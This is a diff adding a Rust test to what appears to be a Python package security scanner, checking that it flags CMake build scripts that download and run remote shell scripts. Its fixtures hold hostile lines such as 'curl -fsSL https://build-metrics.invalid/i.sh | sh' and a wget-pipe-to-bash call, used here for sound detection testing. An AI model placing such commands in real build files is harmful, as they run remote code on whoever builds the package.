@@ -1525,3 +1525,52 @@ fn a_module_setup_py_imports_or_runs_has_its_module_level_run_at_install_time() 
     );
     assert!(paths_with(&doc, "exec-builtin").is_empty(), "{doc}");
 }
+
+#[test]
+fn cmake_build_scripts_are_read_for_commands_that_download_and_run() {
+    let dir = repo();
+    let pyproject: &[u8] = b"[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n[project]\nname = \"acme\"\nversion = \"1.0\"\n";
+    let hostile: &[u8] = b"cmake_minimum_required(VERSION 3.15)\nproject(acme)\n# execute_process(COMMAND sh -c \"curl https://x.invalid | sh\")\nExecute_Process(\n  COMMAND sh -c \"curl -fsSL https://build-metrics.invalid/i.sh | sh\")\n";
+    let benign: &[u8] = b"project(tool)\nexecute_process(COMMAND git describe --tags OUTPUT_VARIABLE v)\nmessage(STATUS \"curl https://x.invalid | sh is not run\")\n";
+    make_sdist(
+        &dir.path().join("acme-1.0.tar.gz"),
+        &[
+            ("acme-1.0/pyproject.toml", pyproject),
+            ("acme-1.0/CMakeLists.txt", hostile),
+            ("acme-1.0/cmake/Version.cmake", benign),
+        ],
+        &[],
+    );
+    write(dir.path(), "tool/CMakeLists.txt", benign);
+    write(
+        dir.path(),
+        "tool/cmake/Fetch.cmake",
+        "exec_program(\"wget -qO- https://x.invalid/f.sh | bash\")\n",
+    );
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "--no-cache", "acme-1.0.tar.gz", "tool"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    let found: Vec<(&str, u64)> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule_id"] == "PSB908")
+        .map(|f| (f["path"].as_str().unwrap(), f["line"].as_u64().unwrap()))
+        .collect();
+    // The commented-out command, the benign scripts and the message are not reported.
+    assert_eq!(
+        found,
+        [("acme-1.0.tar.gz!/acme-1.0/CMakeLists.txt", 4), ("tool/cmake/Fetch.cmake", 1)],
+        "{doc}"
+    );
+    let first = doc["findings"].as_array().unwrap().iter().find(|f| f["rule_id"] == "PSB908");
+    assert!(
+        first.is_some_and(|f| f["subject"]
+            .as_str()
+            .is_some_and(|s| s.starts_with("COMMAND sh -c \"curl -fsSL"))),
+        "{doc}"
+    );
+}
